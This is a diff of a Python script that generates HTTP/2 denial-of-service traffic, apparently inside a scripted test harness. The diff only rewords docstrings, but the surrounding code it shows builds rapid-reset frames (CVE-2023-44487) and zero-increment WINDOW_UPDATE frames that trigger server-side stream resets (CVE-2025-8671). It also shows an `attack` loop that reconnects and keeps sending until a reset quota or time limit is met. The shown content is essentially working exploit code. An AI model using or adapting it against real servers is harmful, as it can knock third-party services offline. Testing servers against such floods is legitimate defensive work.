@@ -1,4 +1,4 @@
-"""Calls that are begun and reset by the thousand on one connection, beside good ones of another (CVE-2023-44487)."""
+"""Rapid reset (CVE-2023-44487): thousands of calls begun and reset on one connection, beside good ones on another."""
 
 from __future__ import annotations
 
@@ -55,12 +55,12 @@ def reset_without_a_message(stream: int, block: bytes) -> bytes:
 
 
 def reset_by_the_server(stream: int, block: bytes) -> bytes:
-    """A window that grows by nothing is an error of its stream (CVE-2025-8671)."""
+    """A WINDOW_UPDATE of 0, which makes the server reset the stream (CVE-2025-8671)."""
     return frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
 
 
 def batches(call: Call) -> Iterator[bytes]:
-    """What one connection sends: after the first call its header fields are one byte each."""
+    """Bytes of one connection; after the first call, each header field is one byte."""
     block = b"".join(literal(name, value, indexed=True) for name, value in fields(PATH).items())
     yield opening() + call(1, block)
     named = bytes(0x80 | 61 + len(fields(PATH)) - at for at in range(len(fields(PATH))))
@@ -69,7 +69,7 @@ def batches(call: Call) -> Iterator[bytes]:
 
 
 def attack(stage: ScriptedStage, call: Call) -> int:
-    """Begins calls until there were enough, on a new connection when one was closed; how many it began."""
+    """Begin calls until there are enough, over new connections if closed, and return their number."""
     end, sent = time.monotonic() + ATTACK_S, 0
     while sent < RESETS and time.monotonic() < end:
         with suppress(OSError), stage.connect(10) as connection:
